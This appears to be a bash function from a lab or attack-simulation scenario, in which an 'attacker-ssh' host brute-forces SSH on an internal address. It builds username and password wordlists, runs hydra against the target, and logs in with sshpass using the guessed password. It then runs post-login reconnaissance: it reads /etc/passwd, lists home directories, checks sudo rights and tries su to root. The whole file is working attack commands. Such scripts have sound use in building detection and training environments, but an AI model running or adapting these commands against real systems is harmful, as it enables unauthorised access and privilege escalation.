# hydra guesses the clerk's password; the attacker signs in and looks round.
# shellcheck shell=bash

attack_ssh_brute_force() {
  on attacker-ssh bash -c 'printf "%s\n" root admin vanthu saoluu >/tmp/ten; printf "%s\n" 123456 password admin123 12345678 \
    qwerty saola2026 vanthu@2025 matkhau 111111 iloveyou letmein vanthu123 Abc@123 1 >/tmp/khau'
  on attacker-ssh timeout 150 hydra -I -t 4 -L /tmp/ten -P /tmp/khau ssh://10.10.20.40
  # shellcheck disable=SC2086
  on attacker-ssh timeout 20 sshpass -p vanthu123 ssh $ssh_quiet vanthu@10.10.20.40 \
    'id; uname -sm; cat /etc/passwd; ls -la /home; sudo -n -l; su root -c id </dev/null; true'
}
